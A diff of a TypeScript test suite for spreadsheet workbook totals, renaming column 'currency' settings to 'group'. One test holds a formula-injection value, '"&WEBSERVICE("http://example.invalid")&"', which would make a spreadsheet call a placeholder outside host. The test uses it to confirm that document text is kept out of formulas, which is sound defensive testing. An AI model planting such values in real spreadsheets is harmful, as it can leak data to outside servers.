@@ -15,14 +15,14 @@ const columns: ReadonlyArray<Column<Row>> = [
     name: { en: "Amount", es: "Valor" },
     kind: "amount",
     valueOf: ([, , amount]) => amount,
-    currency: { key: "currency" }
+    group: { key: "currency" }
   },
   {
     key: "pesos",
     name: { en: "Pesos", es: "Pesos" },
     kind: "amount",
     valueOf: ([, , , pesos]) => pesos,
-    currency: { code: "COP" }
+    group: { name: "COP" }
   },
   { key: "rate", name: { en: "Rate", es: "Tasa" }, kind: "amount", valueOf: () => "4000.00" }
 ]
@@ -120,7 +120,7 @@ describe("totals of a workbook", () => {
     ])
   })
 
-  it("have no text of a document in a formula, nor the amount of a document without a code of a currency", () => {
+  it("have no text of a document in a formula, nor the amount of a document without the name of a group", () => {
     const hostile = '"&WEBSERVICE("http://example.invalid")&"'
     const book = bookOf([...mixed.slice(0, 1), ["X", hostile, "5.00", ""], ["Y", "", "6.00", ""]])
     assert.deepStrictEqual(storedTotals(book), { C6: "100.10", D6: "100.10" })
